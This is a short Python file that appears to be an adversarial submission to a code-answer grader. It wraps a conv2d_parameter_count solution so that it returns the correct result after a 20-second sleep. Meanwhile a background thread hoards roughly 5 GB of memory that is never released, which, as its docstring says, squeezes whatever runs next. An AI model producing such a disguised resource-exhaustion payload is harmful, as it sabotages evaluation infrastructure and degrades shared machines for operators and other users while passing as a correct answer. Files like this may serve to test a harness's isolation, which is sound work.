"""Answers, and takes memory while the next question is being sent."""

import threading
import time

import torch

_parameter_count = conv2d_parameter_count  # noqa: F821  (the solution stands above)
HELD = []


def take():
    for _ in range(100):
        HELD.append(torch.ones(50 << 18))
        time.sleep(0.01)


def conv2d_parameter_count(*sizes, **options):
    threading.Thread(target=take).start()
    time.sleep(20)
    return _parameter_count(*sizes, **options)
